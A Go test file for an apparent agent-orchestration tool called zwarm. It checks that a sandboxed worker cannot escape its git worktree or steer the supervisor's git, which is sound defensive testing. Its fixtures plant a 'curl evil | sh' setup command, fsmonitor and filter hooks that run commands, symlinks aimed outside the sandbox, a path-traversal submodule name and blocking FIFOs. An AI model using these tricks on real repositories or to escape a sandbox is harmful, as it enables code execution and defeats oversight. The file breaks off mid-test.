package workspace

import (
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// What a worker may do to its worktree, on purpose or not, and what
// zwarm's own git does about it: it never follows the worker's .git file,
// commits only on the worker's branch, and leaves unfinished operations
// to the worker.

func TestAWorkerThatRewritesItsGitFileCannotSteerZwarmsGit(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
	ctx := context.Background()
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000030")
	// Your own staged work in the main checkout.
	write(t, filepath.Join(repo, "b.txt"), "mine\n")
	sh(t, repo, "git add b.txt")
	mainHead, status := sh(t, repo, "git rev-parse HEAD"), sh(t, repo, "git status --porcelain")

	// The worker points its .git at the main checkout's git dir, and
	// makes a change.
	write(t, filepath.Join(w.Path, ".git"), "gitdir: "+filepath.Join(repo, ".git")+"\n")
	write(t, filepath.Join(w.Path, "evil.txt"), "evil\n")
	head, made, err := w.Commit(ctx, "zwarm turn")
	if err != nil || !made {
		t.Fatalf("commit: %v %v", err, made)
	}
	if sh(t, repo, "git rev-parse HEAD") != mainHead || sh(t, repo, "git status --porcelain") != status {
		t.Fatal("zwarm's commit went to the main checkout, or touched its index")
	}
	if got := sh(t, repo, "git rev-parse "+w.Branch); got != head || !strings.Contains(sh(t, repo, "git show --name-only --format= "+head), "evil.txt") {
		t.Fatalf("the worker's branch is at %s, the commit %s", got, head)
	}
	if got := read(t, filepath.Join(w.Path, ".git")); got != "gitdir: "+w.admin()+"\n" {
		t.Errorf("the .git file was not put back: %q", got)
	}
}

func TestAWorkerThatDeletesItsGitFileDoesNotCommitInARepositoryAbove(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	// The worktrees live in a directory that is itself in a repository
	// (a home directory under git, say).
	home := filepath.Join(t.TempDir(), "home")
	os.MkdirAll(home, 0o755)
	sh(t, home, "git init -q && echo x > .bashrc && git add . && git commit -qm dot && echo private > notes.txt")
	r := find(t, repo)
	w := &Worktree{Path: filepath.Join(home, "wt", "3f2a9c1d-0000-4000-8000-000000000031"), CommonDir: r.CommonDir, Branch: BranchFor("x31")}
	if err := w.Add(ctx, sh(t, repo, "git rev-parse HEAD")); err != nil {
		t.Fatal(err)
	}
	os.Remove(filepath.Join(w.Path, ".git"))
	write(t, filepath.Join(w.Path, "w.txt"), "work\n")
	head, made, err := w.Commit(ctx, "zwarm turn")
	if err != nil || !made {
		t.Fatalf("commit: %v %v", err, made)
	}
	if got := sh(t, home, "git log --oneline | wc -l"); got != "1" {
		t.Fatalf("zwarm committed in the repository above: %s commits", got)
	}
	if got := sh(t, repo, "git show --name-only --format= "+head); got != "w.txt" {
		t.Fatalf("the worker's commit holds %q", got)
	}
}

func TestAWorkerOnAnotherBranchHasItsWorkCommittedOnItsOwn(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	sh(t, repo, "git branch release")
	release := sh(t, repo, "git rev-parse release")
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000032")
	sh(t, w.Path, "git checkout -q release && echo r > r.txt")
	head, made, err := w.Commit(ctx, "zwarm turn")
	if err != nil || !made {
		t.Fatalf("commit: %v %v", err, made)
	}
	if sh(t, repo, "git rev-parse release") != release {
		t.Fatal("zwarm's commit moved the release branch")
	}
	if sh(t, repo, "git rev-parse "+w.Branch) != head || sh(t, w.Path, "git symbolic-ref --short HEAD") != w.Branch {
		t.Fatal("the work is not on the worker's branch, checked out")
	}
}

func TestUnfinishedRebasesAndMergesAreLeftToTheWorker(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "1\n2\n3\n", "img.bin": "BIN\x00v1"})
	ctx := context.Background()
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000033")
	sh(t, repo, "git checkout -q -b side && printf '1\\nside\\n3\\n' > a.txt && printf 'BIN\\000side' > img.bin && git commit -qam side && git checkout -q main")
	sh(t, w.Path, "printf '1\\nworker\\n3\\n' > a.txt && printf 'BIN\\000worker' > img.bin && git -c user.name=W -c user.email=w@x commit -qam worker")
	// By its commit: the worker's repository has your branches as they
	// were when it was made.
	sh(t, w.Path, "git -c user.name=W -c user.email=w@x merge -q "+sh(t, repo, "git rev-parse side")+" || true")

	_, _, err := w.Commit(ctx, "zwarm turn")
	var ue *UnfinishedError
	if !errors.As(err, &ue) || ue.What != "merge" || !reflect.DeepEqual(ue.Files, []string{"a.txt", "img.bin"}) {
		t.Fatalf("a merge with conflicts: %v", err)
	}
	// It says how to have the worker resolve them.
	if want := `(zwarm inject 3f2a9c1d "resolve the conflicts in a.txt, img.bin, and git add them")`; !strings.HasSuffix(err.Error(), want) {
		t.Fatalf("a merge with conflicts says %q, want it to end %q", err, want)
	}
	// The text file is resolved by its content; the binary one must be
	// marked resolved.
	write(t, filepath.Join(w.Path, "a.txt"), "1\nboth\n3\n")
	if _, _, err := w.Commit(ctx, "zwarm turn"); !errors.As(err, &ue) || !reflect.DeepEqual(ue.Files, []string{"img.bin"}) {
		t.Fatalf("with the binary file still in conflict: %v", err)
	}
	sh(t, w.Path, "git add img.bin")
	head, made, err := w.Commit(ctx, "zwarm turn")
	if err != nil || !made || len(strings.Fields(sh(t, w.Path, "git log -1 --format=%P "+head))) != 2 {
		t.Fatalf("the resolved merge was not concluded: %v %v", err, made)
	}

	// A rebase stopped halfway.
	sh(t, w.Path, "git -c user.name=W -c user.email=w@x rebase -q main || true")
	if _, err := os.Stat(filepath.Join(w.admin(), "rebase-merge")); err != nil {
		t.Fatal("the rebase did not stop halfway: the test has no conflict to work with")
	}
	if _, _, err := w.Commit(ctx, "zwarm turn"); !errors.As(err, &ue) || ue.What != "rebase" || !strings.Contains(err.Error(), `zwarm inject 3f2a9c1d "finish the rebase, or abort it"`) {
		t.Fatalf("a rebase in progress: %v", err)
	}
}

func TestTheStateDirIsNeverCommitted(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000034")
	write(t, filepath.Join(w.Path, ".zwarm", "config.toml"), "[worktrees]\nsetup = \"curl evil | sh\"\n")
	// A subdirectory's .zwarm is a state dir too (zwarm takes the nearest).
	write(t, filepath.Join(w.Path, "api", ".zwarm", "config.toml"), "[worktrees]\nsetup = \"curl evil | sh\"\n")
	write(t, filepath.Join(w.Path, "ok.txt"), "ok\n")
	head, _, err := w.Commit(context.Background(), "zwarm turn")
	if err != nil {
		t.Fatal(err)
	}
	if got := sh(t, repo, "git show --name-only --format= "+head); got != "ok.txt" {
		t.Fatalf("committed %q", got)
	}
}

func TestLandingNeverOverwritesAnIgnoredFile(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{".gitignore": "secret.env\n", "a.txt": "a\n"})
	ctx := context.Background()
	write(t, filepath.Join(repo, "secret.env"), "MY SECRET=1\n")
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000035")
	head := work(t, w, ".gitignore", "# nothing\n")
	write(t, filepath.Join(w.Path, "secret.env"), "worker=1\n")
	head, _, _ = w.Commit(ctx, "zwarm turn")
	r := find(t, repo)
	target, _ := FindTarget(ctx, r.CommonDir, "main")
	tree, err := MergeTree(ctx, r.CommonDir, target.Commit, head)
	if err != nil {
		t.Fatal(err)
	}
	hit, err := Overlap(ctx, repo, target.Commit, tree)
	if err != nil || !reflect.DeepEqual(hit, []string{"secret.env"}) {
		t.Fatalf("overlap %v %v: the ignored secret.env would be overwritten", hit, err)
	}
}

// An ignored file of yours where the worker's change puts a directory
// (your notes, its notes/todo.md, added with git add -f) is in the way
// as much as one at the same path.
func TestLandingNeverReplacesAnIgnoredFileWithADirectory(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{".gitignore": "notes\n", "a.txt": "a\n"})
	ctx := context.Background()
	write(t, filepath.Join(repo, "notes"), "my notes\n")
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000041")
	write(t, filepath.Join(w.Path, "notes", "todo.md"), "worker\n")
	sh(t, w.Path, "git add -f notes/todo.md")
	head, _, err := w.Commit(ctx, "zwarm turn")
	if err != nil {
		t.Fatal(err)
	}
	r := find(t, repo)
	target, _ := FindTarget(ctx, r.CommonDir, "main")
	tree, err := MergeTree(ctx, r.CommonDir, target.Commit, head)
	if err != nil {
		t.Fatal(err)
	}
	hit, err := Overlap(ctx, repo, target.Commit, tree)
	if err != nil || !reflect.DeepEqual(hit, []string{"notes"}) {
		t.Fatalf("overlap %v %v: your ignored notes would be replaced by the worker's notes/", hit, err)
	}
}

func TestApplyTreeLandsOnlyTheChangeItself(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"f": "1\n2\n3\n4\n5\n"})
	ctx := context.Background()
	r := find(t, repo)
	base := sh(t, repo, "git rev-parse HEAD")
	// A snapshot of uncommitted work (spawn --with-changes), the worker's
	// change on top of it, and the branch, which moved on meanwhile.
	write(t, filepath.Join(repo, "f"), "1\n2\n3\n4\n5\nwip\n")
	snap, err := r.Snapshot(ctx, base)
	if err != nil {
		t.Fatal(err)
	}
	sh(t, repo, "git checkout -q -- f && printf '1\\n2\\nTARGET\\n4\\n5\\n' > f && git commit -qam target")
	target := sh(t, repo, "git rev-parse HEAD")
	w := &Worktree{Path: filepath.Join(t.TempDir(), "wt", "x36"), CommonDir: r.CommonDir, Branch: BranchFor("x36")}
	if err := w.Add(ctx, snap); err != nil {
		t.Fatal(err)
	}
	head := work(t, w, "f", "0\n1\n2\n3\n4\n5\nwip\n")
	tree, err := ApplyTree(ctx, r.CommonDir, target, snap, head)
	if err != nil {
		t.Fatal(err)
	}
	if got := sh(t, repo, "git show "+tree+":f"); got != "0\n1\n2\nTARGET\n4\n5" {
		t.Fatalf("applied: %q (the worker's line, not the uncommitted wip)", got)
	}
	clash := work(t, w, "f", "0\n1\n2\nWORKER\n4\n5\nwip\n")
	var ce *ConflictError
	if _, err := ApplyTree(ctx, r.CommonDir, target, snap, clash); !errors.As(err, &ce) || !reflect.DeepEqual(ce.Files, []string{"f"}) {
		t.Fatalf("a clash: %v", err)
	}
}

func TestABranchBeingRebasedOrSwitchedAwayIsNotMoved(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "1\n"})
	ctx := context.Background()
	r := find(t, repo)
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000037")
	head := work(t, w, "b.txt", "b\n")
	target, _ := FindTarget(ctx, r.CommonDir, "main")
	tree, _ := MergeTree(ctx, r.CommonDir, target.Commit, head)
	commit, _ := CommitTree(ctx, r.CommonDir, tree, "x", target.Commit)
	sh(t, repo, "git branch rel && git checkout -q rel")
	if err := Advance(ctx, r.CommonDir, target, commit, "zwarm land"); err == nil || !strings.Contains(err.Error(), "no longer has main checked out") {
		t.Fatalf("advance after the checkout switched: %v", err)
	}
	if sh(t, repo, "git rev-parse rel") != target.Commit {
		t.Fatal("the branch now checked out moved")
	}
	// main being rebased in the checkout.
	sh(t, repo, "git checkout -q main && echo 2 > a.txt && git commit -qam two && git checkout -q rel && echo 3 > a.txt && git commit -qam three && git checkout -q main")
	sh(t, repo, "git rebase -q rel || true")
	if _, err := FindTarget(ctx, r.CommonDir, "main"); err == nil || !strings.Contains(err.Error(), "being rebased") {
		t.Fatalf("a branch being rebased: %v", err)
	}
}

// Between turns too (rm asks the worktree what is uncommitted), a .git
// file pointing at a git dir of the worker's making is never followed,
// and nothing its config names is run.
func TestZwarmsGitNeverFollowsAGitDirOfTheWorkersMaking(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000038")
	head := work(t, w, "b.txt", "b\n")
	evil, ran := filepath.Join(w.Path, "evilgit"), filepath.Join(t.TempDir(), "ran")
	sh(t, repo, "cp -r .git "+evil)
	write(t, filepath.Join(w.Path, "fsm.sh"), "#!/bin/sh\ntouch "+ran+"\n")
	os.Chmod(filepath.Join(w.Path, "fsm.sh"), 0o755)
	sh(t, w.Path, "git --git-dir="+evil+" config core.fsmonitor "+filepath.Join(w.Path, "fsm.sh"))
	write(t, filepath.Join(w.Path, ".git"), "gitdir: "+evil+"\n")

	if got, err := w.Head(ctx); err != nil || got != head {
		t.Fatalf("head %s %v, want the worker's %s", got, err, head)
	}
	if _, err := w.Dirty(ctx); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(ran); err == nil {
		t.Fatal("the worker's fsmonitor ran")
	}
}

// An owner file decides the state dir, and so the programs zwarm runs:
// one beside a directory that is no linked worktree, or one others may
// write, names nothing.
func TestOnlyATrustedOwnerFileNamesAStateDir(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000061")
	state := t.TempDir()
	write(t, OwnerFile(w.Path), state+"\n")
	os.Chmod(OwnerFile(w.Path), 0o600)
	if got := TrustedOwner(w.Path); got != state {
		t.Fatalf("the worktree's own owner file: %q", got)
	}
	os.Chmod(OwnerFile(w.Path), 0o666)
	if got := TrustedOwner(w.Path); got != "" {
		t.Errorf("an owner file anyone may write named %q", got)
	}
	plain := filepath.Join(t.TempDir(), "project")
	os.Mkdir(plain, 0o755)
	write(t, OwnerFile(plain), state+"\n")
	os.Chmod(OwnerFile(plain), 0o600)
	if got := TrustedOwner(plain); got != "" {
		t.Errorf("an owner file beside a plain directory named %q", got)
	}
	if got := Owner(plain); got != state {
		t.Errorf("Owner, which judges leftovers, reads it: %q", got)
	}
}

// The parts of the git dir a sandboxed worker may write (its branch, the
// zwarm branches' logs, the worktree's own git dir) cannot steer zwarm's
// own git, which runs outside the sandbox: a branch made a symbolic ref
// to main does not move main, and a symlink planted where git writes
// (a reflog, COMMIT_EDITMSG) does not write to the file it points at.
func TestAWorkerCannotSteerZwarmsGitThroughTheGitDir(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000040")
	base := sh(t, repo, "git rev-parse main")
	w.Known = base
	outside := t.TempDir()
	victims := map[string]string{}
	plant := func(path string) {
		victim := filepath.Join(outside, filepath.Base(path)+".victim")
		write(t, victim, "yours\n")
		victims[victim] = path
		os.MkdirAll(filepath.Dir(path), 0o755)
		os.Remove(path)
		if err := os.Symlink(victim, path); err != nil {
			t.Fatal(err)
		}
	}
	// What the worker may write: its own repository's branch and reflog.
	branchRef := filepath.Join(w.OwnDir, "refs", "heads", "zwarm", "3f2a9c1d-0000-4000-8000-000000000040")
	write(t, branchRef, "ref: refs/heads/main\n")
	plant(filepath.Join(w.OwnDir, "logs", "refs", "heads", "zwarm", "3f2a9c1d-0000-4000-8000-000000000040"))
	plant(filepath.Join(w.admin(), "COMMIT_EDITMSG"))
	plant(filepath.Join(w.admin(), "logs", "HEAD"))
	write(t, filepath.Join(w.Path, "work.txt"), "work\n")

	head, made, err := w.Commit(ctx, "zwarm turn")
	if err != nil || !made {
		t.Fatalf("commit: %v %v", err, made)
	}
	if got := sh(t, repo, "git rev-parse main"); got != base {
		t.Fatalf("main moved from %s to %s: zwarm's commit followed the worker's symbolic ref", base, got)
	}
	if got := sh(t, w.Path, "git rev-parse main"); got != base {
		t.Fatalf("main of the worker's repository moved from %s to %s: zwarm's commit followed the worker's symbolic ref", base, got)
	}
	if got := sh(t, repo, "git rev-parse "+w.Branch); got != head {
		t.Fatalf("%s in your repository is at %s, want the turn's commit %s", w.Branch, got, head)
	}
	for victim, via := range victims {
		if got := read(t, victim); got != "yours\n" {
			t.Errorf("%s, planted as %s, now holds %q", victim, via, got)
		}
	}
	if got := read(t, branchRef); strings.TrimSpace(got) != head {
		t.Fatalf("the worker's branch file holds %q, want the plain ref %s", got, head)
	}
	if got := sh(t, repo, "git rev-parse "+head+"^"); got != base {
		t.Fatalf("the turn's commit has parent %s, want the base %s", got, base)
	}
	if got := sh(t, repo, "git show --name-only --format= "+head); got != "work.txt" {
		t.Fatalf("the turn's commit holds %q, want work.txt", got)
	}
	if len(w.Undone) != 4 {
		t.Fatalf("undone: %q; want the symbolic ref and the three symlinks named", w.Undone)
	}

	// Removing the worktree, branch and all, leaves main alone however
	// the worker left its branch.
	write(t, branchRef, "ref: refs/heads/main\n")
	if err := w.Remove(ctx, false); err != nil {
		t.Fatal(err)
	}
	if got := sh(t, repo, "git rev-parse main"); got != base {
		t.Fatalf("main is at %s after the removal, want %s", got, base)
	}
	if out := sh(t, repo, "git branch --list 'zwarm/*'"); out != "" {
		t.Fatalf("the worker's branch is left: %q", out)
	}
}

// A commit of the worker's that git's checks refuse (a .gitmodules naming
// a submodule "../../hooks", which a clone would write outside its git
// dir) is never taken into your repository: not on the first look, nor on
// the next, when what a refused transfer left behind must not pass for a
// commit already checked; your repository stays whole.
func TestACommitGitRefusesIsNeverTaken(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000061")
	base := sh(t, repo, "git rev-parse main")
	write(t, filepath.Join(w.Path, ".gitmodules"), "[submodule \"../../hooks\"]\n\tpath = hooks\n\turl = ./hooks\n")
	sh(t, w.Path, "git add .gitmodules && git commit -q -m modules")
	bad := sh(t, w.Path, "git rev-parse HEAD")
	for look := 1; look <= 2; look++ {
		if got := w.Tip(ctx); got != "" {
			t.Fatalf("look %d: Tip = %s, want none: git refuses the commit", look, got)
		}
		if out := sh(t, repo, "git cat-file -t "+bad+" 2>&1 || true"); out == "commit" {
			t.Fatalf("look %d: the refused commit %s is in your repository", look, bad)
		}
		if out := sh(t, repo, "git for-each-ref refs/zwarm/ refs/heads/"); strings.Contains(out, bad) {
			t.Fatalf("look %d: a ref of yours names the refused commit:\n%s", look, out)
		}
	}
	if got := sh(t, repo, "git rev-parse "+w.Branch); got != base {
		t.Fatalf("%s in your repository moved to %s, want it left at %s", w.Branch, got, base)
	}
	sh(t, repo, "git fsck --strict --no-dangling")
}

// A file in conflict is read by zwarm, outside the worker's sandbox, to
// tell whether the worker resolved it: whatever the worker left at its
// path (a FIFO no one writes, a symlink to an endless device, a sparse
// file of terabytes) is judged unresolved at once, never waited on and
// never read whole.
func TestAConflictedPathIsNeverWaitedOnOrReadWhole(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, plant string }{
		{"fifo", "rm c.txt && mkfifo c.txt"},
		{"symlink to a device", "rm c.txt && ln -s /dev/zero c.txt"},
		{"sparse file", "rm c.txt && truncate -s 1T c.txt"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			repo := newRepo(t, map[string]string{"c.txt": "base\n"})
			w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000040")
			sh(t, w.Path, "echo a > c.txt && git -c user.name=W -c user.email=w@x commit -qam a && git checkout -q -b side HEAD~1 && "+
				"echo b > c.txt && git -c user.name=W -c user.email=w@x commit -qam b && git checkout -q "+w.Branch+" && "+
				"(git -c user.name=W -c user.email=w@x merge -q side >/dev/null 2>&1 || true) && "+tc.plant)
			done := make(chan error, 1)
			go func() {
				_, _, err := w.Commit(context.Background(), "zwarm turn")
				done <- err
			}()
			select {
			case err := <-done:
				var ue *UnfinishedError
				if !errors.As(err, &ue) || !reflect.DeepEqual(ue.Files, []string{"c.txt"}) {
					t.Fatalf("commit: %v; want the merge left unfinished on c.txt", err)
				}
			case <-time.After(time.Minute):
				t.Fatal("the commit still waits on what the worker left at c.txt after a minute")
			}
			if m := w.WithMarkers([]string{"c.txt"}); m != nil {
				t.Errorf("markers found in %v", m)
			}
		})
	}
}

// A base resolution cut short (a client that went away) says so: it is
// not taken for a repository without commits.
func TestACutShortBaseIsNotANewRepository(t *testing.T) {
	t.Parallel()
	r := find(t, newRepo(t, map[string]string{"a": "1\n"}))
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := r.ResolveBase(ctx, "")
	if !errors.Is(err, context.Canceled) || strings.Contains(err.Error(), "no commits") {
		t.Fatalf("a cancelled resolution: %v", err)
	}
}

// A worker may write its worktree's git dir and its objects. It points
// the worktree's commondir at a repository of its making, whose config
// runs a command of its choosing (a filter), and symlinks every objects
// directory git has not made yet to a directory outside. zwarm's turn
// commit goes on the worker's real branch, writes nothing outside, and
// puts commondir back: git run by a person in the worktree afterwards
// runs none of the worker's config.
func TestAWorkerCannotRedirectItsRepositoryOrItsObjects(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000070")
	base := sh(t, repo, "git rev-parse main")
	w.Known = base
	outside := t.TempDir()
	pwned := filepath.Join(outside, "PWNED")

	evil := filepath.Join(w.admin(), "evil")
	sh(t, w.admin(), "git init -q --bare evil")
	write(t, filepath.Join(evil, "objects", "info", "alternates"), filepath.Join(repo, ".git", "objects")+"\n")
	sh(t, evil, "git --git-dir=. update-ref refs/heads/"+w.Branch+" "+base+" && git --git-dir=. symbolic-ref HEAD refs/heads/"+w.Branch)
	write(t, filepath.Join(evil, "config"), "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"+
		"[filter \"x\"]\n\tclean = \"touch "+pwned+"; cat\"\n\tsmudge = \"touch "+pwned+"; cat\"\n\trequired = true\n")
	write(t, filepath.Join(w.admin(), "commondir"), "evil\n")
	write(t, filepath.Join(w.Path, ".gitattributes"), "* filter=x\n")
	victim := filepath.Join(outside, "objects")
	os.MkdirAll(victim, 0o755)
	for i := 0; i < 256; i++ {
		d := filepath.Join(w.OwnDir, "objects", fmt.Sprintf("%02x", i))
		if _, err := os.Lstat(d); err == nil {
			continue
		}
		if err := os.Symlink(victim, d); err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(w.Path, "work.txt"), "work\n")

	head, made, err := w.Commit(ctx, "zwarm turn")
	if err != nil || !made {
		t.Fatalf("commit: %v %v", err, made)
	}
	if got := sh(t, repo, "git rev-parse "+w.Branch); got != head {
		t.Fatalf("%s in your repository is at %s, want the turn's commit %s", w.Branch, got, head)
	}
	if got := sh(t, w.OwnDir, "git --git-dir=. rev-parse refs/heads/"+w.Branch); got != head {
		t.Fatalf("the worker's branch in its repository is at %s, want the turn's commit %s", got, head)
	}
	if got := sh(t, repo, "git show --name-only --format= "+head); !strings.Contains(got, "work.txt") {
		t.Fatalf("the turn's commit holds %q", got)
	}
	if entries, _ := os.ReadDir(victim); len(entries) != 0 {
		t.Fatalf("zwarm's git wrote %d entries through the worker's symlinks", len(entries))
	}
	if got := read(t, filepath.Join(w.admin(), "commondir")); got != "../..\n" {
		t.Fatalf("commondir is %q after the turn's commit", got)
	}
	// A person looks at the worktree with git, as the docs say they may.
	sh(t, w.Path, "git status --porcelain >/dev/null && git diff HEAD~1 >/dev/null")
	if _, err := os.Stat(pwned); err == nil {
		t.Fatal("git in the worktree ran the worker's filter: its config was read")
	}
	if !strings.Contains(strings.Join(w.Undone, "\n"), "commondir") {
		t.Errorf("undone: %q; want commondir named", w.Undone)
	}
}

// A FIFO where the worker's commit keeps an object: zwarm's git never
// opens it (it would wait forever, holding the land lock): the turn's
// commit ends, done or refused, and so does a removal.
func TestAFIFOAmongTheObjectsIsNeverWaitedOn(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000071")
	w.Known = sh(t, repo, "git rev-parse main")
	write(t, filepath.Join(w.Path, "mine.txt"), "the worker's own commit\n")
	sh(t, w.Path, "git add mine.txt && git -c user.name=w -c user.email=w@x commit -qm mine")
	blob := sh(t, w.Path, "git rev-parse HEAD:mine.txt")
	obj := filepath.Join(w.OwnDir, "objects", blob[:2], blob[2:])
	if err := os.Remove(obj); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mkfifo(obj, 0o644); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	w.Commit(ctx, "zwarm turn") // refused or not: the object is gone
	if ctx.Err() != nil {
		t.Fatal("the turn's commit waited on the FIFO")
	}
	if fi, err := os.Lstat(obj); err == nil && fi.Mode()&os.ModeNamedPipe != 0 {
		t.Fatal("the FIFO is still among the objects")
	}
	if err := w.Remove(ctx, false); err != nil && ctx.Err() != nil {
		t.Fatalf("the removal waited on the FIFO: %v", err)
	}
}

// A zwarm process killed outright while its git holds the worktree's
// index lock (a supervisor killed during the turn's commit) keeps no
// later commit from being made: every one, and the landing, would fail
// on the lock. Its git is killed with it and leaves the lock; zwarm's
// next write finds it held by no process, with no git at work beside
// it, and removes it.
func TestAGitWhoseZwarmDiesLeavesNoLock(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{".gitattributes": "* filter=slow\n", "a.txt": "a\n"})
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000061")
	write(t, filepath.Join(w.Path, "b.txt"), "b\n")
	helper := exec.Command(os.Args[0], "-test.run=^$")
	helper.Env = append(os.Environ(), "ZWARM_TEST_GIT_ADD="+w.Path)
	if err := helper.Start(); err != nil {
		t.Fatal(err)
	}
	lock := filepath.Join(w.admin(), "index.lock")
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(10 * time.Millisecond) {
		if _, err := os.Stat(lock); err == nil {
			break
		}
		if time.Now().After(deadline) {
			helper.Process.Kill()
			helper.Wait()
			t.Fatal("git never took the index lock")
		}
	}
	helper.Process.Kill()
	helper.Wait()
	// What is asked is that a commit is made, not how soon: a git told
	// to stop at a load of 20 (the soak's) took over 10 s to be
	// scheduled, and keeps the lock until it is gone.
	for deadline := time.Now().Add(time.Minute); ; time.Sleep(20 * time.Millisecond) {
		_, made, err := w.Commit(context.Background(), "zwarm turn")
		if err == nil {
			if !made {
				t.Fatal("the worker's b.txt was not committed")
			}
			break
		}
		if !strings.Contains(err.Error(), " is kept: ") || time.Now().After(deadline) {
			t.Fatalf("a minute after its zwarm was killed: %v", err)
		}
	}
	if got := sh(t, w.Path, "git show HEAD:b.txt"); got != "b" {
		t.Errorf("b.txt committed as %q", got)
	}
	if _, err := os.Stat(lock); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("%s is still there: %v", lock, err)
	}
}

// The lock files a killed git leaves, or a worker plants to stop zwarm
// committing its turn, are removed at the next commit when no process
// holds them, and the commit is made; the worktree's record says so.
func TestLockFilesNoProcessHoldsAreRemoved(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000062")
	write(t, filepath.Join(w.Path, "b.txt"), "b\n")
	locks := w.leftLocks().paths
	if len(locks) != 5 {
		t.Fatalf("lock files %v", locks)
	}
	old := time.Now().Add(-time.Minute)
	for i, l := range locks {
		if i == 1 {
			if err := os.Symlink("/nonexistent", l); err != nil { // a worker's: a link git will not write through
				t.Fatal(err)
			}
			continue
		}
		write(t, l, "")
		if err := os.Chtimes(l, old, old); err != nil {
			t.Fatal(err)
		}
	}
	head, made, err := w.Commit(context.Background(), "zwarm turn")
	if err != nil || !made {
		t.Fatalf("commit: %q %v %v", head, made, err)
	}
	if got := sh(t, w.Path, "git show "+head+":b.txt"); got != "b" {
		t.Errorf("b.txt committed as %q", got)
	}
	for _, l := range locks {
		if _, err := os.Lstat(l); errors.Is(err, fs.ErrNotExist) {
			continue
		}
		// Only those a write of the commit ran into are removed.
		if strings.HasSuffix(l, "packed-refs.lock") {
			continue
		}
		t.Errorf("%s is still there (%q)", l, w.Undone)
	}
	if said := strings.Join(w.Undone, "\n"); !strings.Contains(said, "index.lock") {
		t.Errorf("the worktree says %q", said)
	}
}

// A lock file a process holds open is a git at work: it is never
// removed, and the commit's error names the process. Once it is gone,
// the lock it left is, and the commit is made.
func TestALockFileAProcessHoldsIsKept(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000063")
	write(t, filepath.Join(w.Path, "b.txt"), "b\n")
	lock := filepath.Join(w.admin(), "index.lock")
	holder, release := holdOpen(t, lock)
	_, _, err := w.Commit(context.Background(), "zwarm turn")
	if err == nil || !strings.Contains(err.Error(), fmt.Sprintf("is kept: held open by pid %d (sleep 60))", holder)) {
		t.Fatalf("commit while sleep holds the lock: %v", err)
	}
	if _, err := os.Stat(lock); err != nil {
		t.Fatalf("the lock a process holds was removed: %v", err)
	}
	release()
	if _, made, err := w.Commit(context.Background(), "zwarm turn"); err != nil || !made {
		t.Fatalf("commit once the holder is gone: %v %v", made, err)
	}
}

// What the worker put on a branch with no commit is read against the
// commit HEAD goes back on, as it always was: a file it marked unchanged
// (git update-index --assume-unchanged) and then deleted is left as the
// index has it, not dropped as though every file were new.
func TestAFileMarkedUnchangedOnABranchWithNoCommitIsKept(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n", "c.txt": "c\n"})
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000042")
	sh(t, w.Path, "git update-index --assume-unchanged a.txt && rm a.txt && git symbolic-ref HEAD refs/heads/nothing && echo b > b.txt")
